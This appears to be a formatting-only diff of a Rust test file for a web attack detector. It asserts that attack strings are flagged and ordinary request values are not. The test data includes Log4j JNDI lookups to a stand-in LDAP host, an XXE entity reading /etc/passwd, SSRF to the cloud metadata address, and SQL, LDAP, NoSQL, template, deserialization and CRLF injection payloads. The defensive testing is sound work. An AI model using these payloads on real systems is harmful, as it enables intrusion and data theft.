@@ -29,11 +29,21 @@ fn attacks_are_found_and_named() {
         (C::Log4j, Place::Header, Form::Text, "${jndi:ldap://x.example/a}"),
         (C::Log4j, Place::Header, Form::Text, "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}"),
         (C::Ssti, Place::Query, Form::Pairs, "n={{''.__class__.__mro__[1].__subclasses__()}}"),
-        (C::Xxe, Place::Body, Form::Text, "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
+        (
+            C::Xxe,
+            Place::Body,
+            Form::Text,
+            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
+        ),
         (C::Ssrf, Place::Query, Form::Pairs, "url=http://169.254.169.254/latest/meta-data/"),
         (C::Nosql, Place::Body, Form::Json, r#"{"user": {"$ne": null}, "pass": {"$ne": null}}"#),
         (C::Ldap, Place::Query, Form::Pairs, "u=*)(uid=*))(|(uid=*"),
-        (C::Deserialization, Place::Cookie, Form::Cookies, "s=gASVzgAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIyyKGV4"),
+        (
+            C::Deserialization,
+            Place::Cookie,
+            Form::Cookies,
+            "s=gASVzgAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIyyKGV4",
+        ),
         (C::Crlf, Place::Query, Form::Pairs, "to=a%0d%0aSet-Cookie:%20a=b"),
     ] {
         let score = score(place, form, text.as_bytes());
@@ -53,8 +63,16 @@ fn legitimate_values_are_let_be() {
         (Place::Query, Form::Pairs, "name=Conan+O%27Brien&sort=-created"),
         (Place::Query, Form::Pairs, "next=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De"),
         (Place::Header, Form::Text, "*/*"),
-        (Place::Header, Form::Text, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
-        (Place::Header, Form::Text, "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0"),
+        (
+            Place::Header,
+            Form::Text,
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        ),
+        (
+            Place::Header,
+            Form::Text,
+            "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
+        ),
         (Place::Cookie, Form::Cookies, "sid=s%3AqX9vT2mL0aKc4wZ7; theme=dark; _ga=GA1.2.149.1718"),
         (Place::Body, Form::Json, r#"{"title": "Don't panic", "n": 42, "tags": ["a", "b & c"]}"#),
         (Place::Body, Form::Text, "<p>Hello <b>world</b>, it's 5 o'clock.</p>"),
@@ -77,7 +95,8 @@ fn the_excerpt_shows_what_was_decoded_and_debug_does_not() {
 
 #[test]
 fn the_worst_value_counts_wherever_it_stands() {
-    let bad = Value { place: Place::Query, form: Form::Pairs, bytes: b"a=1' union select null,null-- -" };
+    let bad =
+        Value { place: Place::Query, form: Form::Pairs, bytes: b"a=1' union select null,null-- -" };
     let good = Value { place: Place::Header, form: Form::Text, bytes: b"en-GB,en;q=0.9" };
     let (model, mut scratch) = (model(), Scratch::default());
     let alone = model.score(&[bad], &mut scratch).probability;
@@ -96,7 +115,11 @@ fn pieces_overlap() {
     let model = model();
     let mut scratch = Scratch::default();
     for lead in (lex::MAX_WINDOW - 300..lex::MAX_WINDOW + 60).step_by(7) {
-        let text = format!("{}{attack}{}", "lorem ipsum ".repeat(400).get(..lead).unwrap(), " dolor".repeat(500));
+        let text = format!(
+            "{}{attack}{}",
+            "lorem ipsum ".repeat(400).get(..lead).unwrap(),
+            " dolor".repeat(500)
+        );
         let value = Value { place: Place::Body, form: Form::Text, bytes: text.as_bytes() };
         assert!(model.score(&[value], &mut scratch).is_attack, "{lead}");
     }
@@ -146,10 +169,16 @@ fn hostile_bytes() {
 #[test]
 fn work_stays_linear() {
     let (model, mut scratch) = (model(), Scratch::default());
-    for unit in ["(", ")", "'", "<a ", "${", "{{", "../", "select ", "union ", "/*", "%25", "&#", ";", "\\u", "<!"] {
+    for unit in [
+        "(", ")", "'", "<a ", "${", "{{", "../", "select ", "union ", "/*", "%25", "&#", ";",
+        "\\u", "<!",
+    ] {
         let text = unit.repeat(MAX_VALUE / unit.len());
         let start = std::time::Instant::now();
-        model.score(&[Value { place: Place::Body, form: Form::Text, bytes: text.as_bytes() }], &mut scratch);
+        model.score(
+            &[Value { place: Place::Body, form: Form::Text, bytes: text.as_bytes() }],
+            &mut scratch,
+        );
         // A piece for a piece it is a millisecond; the square of it would be a minute.
         assert!(start.elapsed().as_secs() < 10, "{unit}");
     }
@@ -178,7 +207,8 @@ fn features_are_named_once_and_their_groups_are_in_order() {
     ids.sort_unstable();
     ids.dedup();
     assert_eq!(ids.len(), schema::NAMED);
-    let order: Vec<usize> =
-        (0..schema::WIDTH).map(|at| Group::ALL.iter().position(|g| *g == schema::group_of(at)).unwrap()).collect();
+    let order: Vec<usize> = (0..schema::WIDTH)
+        .map(|at| Group::ALL.iter().position(|g| *g == schema::group_of(at)).unwrap())
+        .collect();
     assert!(order.is_sorted());
 }
